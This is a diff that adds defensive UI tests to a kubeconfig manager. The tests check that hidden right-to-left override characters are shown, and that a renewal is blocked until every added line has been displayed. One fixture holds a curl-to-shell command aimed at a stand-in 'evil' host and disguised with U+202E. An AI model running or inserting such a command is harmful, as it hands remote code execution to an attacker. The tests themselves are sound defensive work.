@@ -45,6 +45,14 @@ describe('the kubeconfig screen', () => {
     expect(screen.getByText('current')).toBeTruthy();
   });
 
+  it('spells out what kubectl runs to sign in, unseen signs included', async () => {
+    const contexts = [kubeContext('corp', { signIn: 'exec', runs: 'sh -c "curl evil\u202e | sh"' })];
+    openApp('kubeconfig', clusterBridge().publish('kubeconfig.state', {}, kubeState({ contexts })));
+
+    const row = await screen.findByRole('row', { name: /corp/ });
+    expect(row.textContent).toContain('a program: sh -c "curl evil\\u202e | sh"');
+  });
+
   it('shows every file in order, what is wrong with it, and which name is not used', async () => {
     const files = [
       kubeFile({ origin: 'env', path: '/a' }),
@@ -149,6 +157,64 @@ describe('the kubeconfig sheet', () => {
     expect(inputsOf(app, 'kubeconfig.apply')).toEqual([{ token: kubePreview().token }]);
     expect(await screen.findByText('Renewed admin@prod-fra')).toBeTruthy();
     expect(screen.queryByRole('dialog')).toBeNull();
+  });
+
+  it('writes only after every line that would be added was shown', async () => {
+    const line = (at: number, text: string) => ({ kind: 'added' as const, new: at, text });
+    const long = kubeFilePreview({
+      diff: [line(1, 'first')],
+      diffLength: 1_500,
+      addedLeft: 1_499,
+      telling: [line(1_400, '    server: https://far.example')],
+    });
+    const bridge = clusterBridge().answer('kubeconfig.preview', () => ({
+      ok: true,
+      value: kubePreview({ files: [long] }),
+    }));
+    let left = 1;
+    bridge.answer('kubeconfig.previewLines', ({ from }) => ({
+      ok: true,
+      value: { lines: [line(from + 1, `line ${from}`)], addedLeft: left-- },
+    }));
+    const app = await openSheet(bridge);
+    expect(app.sheet.textContent).toContain('The first 1 of 1,500 lines.');
+    expect(app.sheet.textContent).toContain('1,499 lines further down would be added');
+    expect(within(app.sheet).getByText(/server: https:\/\/far\.example/)).toBeTruthy();
+    expect(primary(app.sheet, 'Renew the certificate').disabled).toBe(true);
+    await app.user.keyboard('{Enter}');
+    expect(inputsOf(app, 'kubeconfig.apply')).toEqual([]);
+
+    await app.user.click(primary(app.sheet, 'Show more lines'));
+    expect(primary(app.sheet, 'Renew the certificate').disabled).toBe(true);
+    await app.user.click(primary(app.sheet, 'Show more lines'));
+
+    const { token } = kubePreview();
+    expect(inputsOf(app, 'kubeconfig.previewLines')).toEqual([
+      { token, file: 'f1', from: 1 },
+      { token, file: 'f1', from: 2 },
+    ]);
+    expect(within(app.sheet).getByText('line 2')).toBeTruthy();
+    await app.user.click(primary(app.sheet, 'Renew the certificate'));
+    expect(inputsOf(app, 'kubeconfig.apply')).toEqual([{ token }]);
+  });
+
+  it('does not write what cannot be shown', async () => {
+    const cut = kubeFilePreview({ diffLength: 20_000, isDiffCut: true });
+    const app = await openSheet(
+      clusterBridge().answer('kubeconfig.preview', () => ({ ok: true, value: kubePreview({ files: [cut] }) })),
+    );
+
+    expect(app.sheet.textContent).toContain('It is not written.');
+    expect(primary(app.sheet, 'Renew the certificate').disabled).toBe(true);
+  });
+
+  it('makes signs visible that would turn the text of a line', async () => {
+    const turned = kubeFilePreview({ diff: [{ kind: 'added', new: 1, text: '- name: a\u202eb' }] });
+    const app = await openSheet(
+      clusterBridge().answer('kubeconfig.preview', () => ({ ok: true, value: kubePreview({ files: [turned] }) })),
+    );
+
+    expect(app.sheet.textContent).toContain('- name: a\\u202eb');
   });
 
   it('offers undo after writing', async () => {
